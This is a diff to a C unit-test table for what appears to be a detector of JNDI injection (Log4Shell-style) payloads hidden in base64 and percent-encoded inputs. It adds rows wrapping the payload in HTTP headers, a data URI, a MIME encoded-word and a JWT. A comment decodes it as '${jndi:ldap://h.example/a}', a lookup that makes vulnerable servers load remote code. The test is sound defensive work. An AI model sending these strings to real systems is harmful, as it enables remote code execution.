@@ -101,6 +101,13 @@ static void base64(void **state)
         ROW("Basic " PLAIN_BASE64, EXPLOIT, .chain = "base64"),
         ROW("{\"d\":\"" PLAIN_BASE64 "\"}", EXPLOIT, .chain = "base64"),
         ROW("{\\\"d\\\":\\\"" PLAIN_BASE64 "\\\"}", EXPLOIT, .chain = "backslash base64"),
+        ROW("(" PLAIN_BASE64 ")", EXPLOIT, .chain = "base64"),
+        ROW("<a>" PLAIN_BASE64 "</a>", EXPLOIT, .chain = "base64"),
+        ROW("X-Api-Version:" PLAIN_BASE64, EXPLOIT, .chain = "base64"),
+        ROW("data:text/plain;base64," PLAIN_BASE64, EXPLOIT, .chain = "base64"),
+        ROW("=?utf-8?B?" PLAIN_BASE64 "?=", EXPLOIT, .chain = "base64"),
+        /* {"sub":"${jndi:ldap://h.example/a}"} as the second piece of a token */
+        ROW("Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIke2puZGk6bGRhcDovL2guZXhhbXBsZS9hfSJ9.", EXPLOIT, .chain = "base64"),
         ROW("a=1;b=" PLAIN_BASE64 "; c=2", EXPLOIT, .chain = "base64"),
         ROW("/?d=JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0%3D", EXPLOIT, .chain = "percent base64"),
         ROW("/?u=%2Fcb%3Fd%3DJHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0%3D", EXPLOIT, .chain = "percent base64"),
